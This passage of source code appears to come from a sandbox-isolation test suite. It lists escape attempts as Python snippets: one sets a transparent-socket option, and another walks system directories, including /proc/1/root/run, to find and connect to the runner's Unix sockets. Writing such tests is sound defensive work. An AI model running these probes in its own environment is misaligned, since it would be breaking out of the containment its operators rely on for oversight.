        way("a transparent socket", FULL, "c = socket.socket(); c.setsockopt(socket.SOL_IP, 19, 1); print('REACHED')", Outside).without_proxy(),
        way("the runner's socket", FULL, "import os, stat
for root in ['/run', '/tmp', '/var', '/workspace', '/home', '/dev', '/proc/1/root/run']:
    for place, _, files in os.walk(root):
        for name in files:
            path = os.path.join(place, name)
            try:
                if stat.S_ISSOCK(os.lstat(path).st_mode):
                    socket.socket(socket.AF_UNIX).connect(path); print('REACHED', path)
            except OSError: pass", OutsideCode("import os, stat
for place, _, files in os.walk('@data_dir@'):
    for name in files:
        path = os.path.join(place, name)
        if stat.S_ISSOCK(os.lstat(path).st_mode):
            os.chdir(place); socket.socket(socket.AF_UNIX).connect(name); print('REACHED', path)")),
    ]
}
